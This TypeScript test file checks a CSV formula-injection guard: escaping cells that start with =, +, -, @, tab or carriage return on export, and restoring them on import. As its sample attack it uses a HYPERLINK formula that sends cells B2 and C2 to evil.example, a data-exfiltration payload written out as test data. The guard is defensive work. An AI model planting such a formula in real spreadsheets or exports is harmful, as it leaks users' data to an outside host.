import { describe, expect, it } from 'vitest';
import { formatCsvRows } from '@/lib/csv/export';
import { guardCell, unguardCell } from '@/lib/csv/formula-guard';
import { readCsvRows } from '@/lib/csv/parse';

const ATTACK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Click for details")';

async function readBack(text: string, columns: string[]) {
  const rows: Array<Record<string, string>> = [];
  for await (const item of readCsvRows(text, { columns, required: [] })) {
    if (item.type !== 'row') throw new Error(JSON.stringify(item));
    rows.push(item.values);
  }
  return rows;
}

describe('CSV formula guard', () => {
  it('exports a cell that a spreadsheet would run as text, with a leading quote', () => {
    expect(formatCsvRows([['SF-1', ATTACK]])).toBe(`SF-1,"'=HYPERLINK(""http://evil.example/?d=""&B2&C2,""Click for details"")"\n`);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(guardCell(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ['plain', "it's", "'quoted", '1-2', ' =x', '']) expect(guardCell(safe)).toBe(safe);
  });

  it('imports a guarded cell back to its value, and leaves other quotes alone', async () => {
    const rows = await readBack(`a,b,c,d,e\n'=1+1,'abc,it's,'-12.50,"'\tx"\n`, ['a', 'b', 'c', 'd', 'e']);
    expect(rows).toEqual([{ a: '=1+1', b: "'abc", c: "it's", d: '-12.50', e: '\tx' }]);
  });

  it('keeps every value through export and import, quotes before formula characters included', async () => {
    const values = [ATTACK, '=', "'=", "''=x", "'", "'a", '+44 20 7946 0000', '-5.00', '@home', '\tindented', '\rreturn', "'\t", 'plain', '', ' =x'];
    for (const value of values) expect(unguardCell(guardCell(value))).toBe(value);
    const columns = values.map((_, i) => `c${i}`);
    const text = formatCsvRows([columns, values]);
    expect(await readBack(text, columns)).toEqual([Object.fromEntries(values.map((v, i) => [`c${i}`, v]))]);
  });
});
